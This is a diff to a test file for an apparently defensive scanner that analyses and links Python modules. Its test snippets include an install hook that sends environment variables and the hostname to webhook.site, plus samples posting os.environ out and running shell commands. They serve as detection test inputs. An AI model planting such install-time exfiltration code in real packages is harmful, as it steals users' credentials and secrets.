@@ -17,9 +17,12 @@ with instrumented(__name__):
     from veln_hook.errors import ArchiveError
     from veln_hook.signals.source.judging import judge, would_hold_if_new
     from veln_hook.source import scanning
+    from veln_hook.source.aliases import aliases
     from veln_hook.source.analysis import analyse_python
     from veln_hook.source.facts import file_from_plain, from_plain
-    from veln_hook.source.linking import Linker, Module
+    from veln_hook.source.leading import Leads, senders
+    from veln_hook.source.linking import Linker
+    from veln_hook.source.modules import Module
 
 if TYPE_CHECKING:
     import random
@@ -38,6 +41,8 @@ SNIPPETS = (
     "import subprocess as s\nclass A(B):\n    def run(self, *a, **k):\n        s.Popen(['curl', '-s', a], shell=True)\n        super().run()\n",
     "from setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        import requests, os, socket\n"
     + "        requests.post('https://webhook.site/x', json={'h': socket.gethostname(), 'e': dict(os.environ)})\nsetup(cmdclass={'install': I})\n",
+    "from .core import os, S as t, *\nfrom . import core as c\nt.post(c.E, data=c.os.environ)\nos.system(x)\nrun = exec\n",
+    "import os, requests as r\nS = r.Session()\nE = dict(os.environ)\nrun = r.post\nfrom .deep import *\n",
     "from .core import *\nfrom . import deep\nfrom ..x import y as z\nimport demo.core as c\ndef f():\n    return c.g(deep.h(z))\nf()\n",
     "import os\ng = lambda *a, **k: (yield)\nx = [i async for i in y if (await z)]\nasync def h():\n    async with a as b:\n        await b(os.getenv('TOKEN'))\n",
     "x = f\"{f'{f\"{a!r:>{w}}\"}'}\" f'{{}}' rf'\\{b=}' + f'''{\nc}'''\n",
@@ -127,10 +132,14 @@ def _check(files: list[tuple[str, bytes]]) -> None:
             dotted = name.rpartition(".")[0].replace("/", ".").replace(".__init__", "")
             reach = (("import",), ("build",), ("startup",), ("script",), ())[place % 5]
             modules.append(Module(f"{always}/{name}", f"{'a.' * always}{dotted}", facts, reach))
-    linker = Linker(modules, [("demo.core.main", "script"), ("", "build"), ("..", "startup")])
-    unread = linker.unread()
     by_path = {f"{always}/{name}": data for always in (False, True) for name, data in files}
+    for place, names in aliases(modules, by_path, range(len(modules))).items():
+        facts = analyse_python(by_path[modules[place].path], always=True, aliases=names)
+        modules[place] = modules[place]._replace(facts=facts)
+    linker = Linker(modules, [("demo.core.main", "script"), ("", "build"), ("..", "startup")])
+    unread = Leads(linker, lambda path: len(path) % 2 == 0).unread()
     linker.read({name: analyse_python(by_path[name], always=True) for name in unread})
+    assert senders(linker) <= set(range(len(modules)))
     linker.result()
 
     whole = []
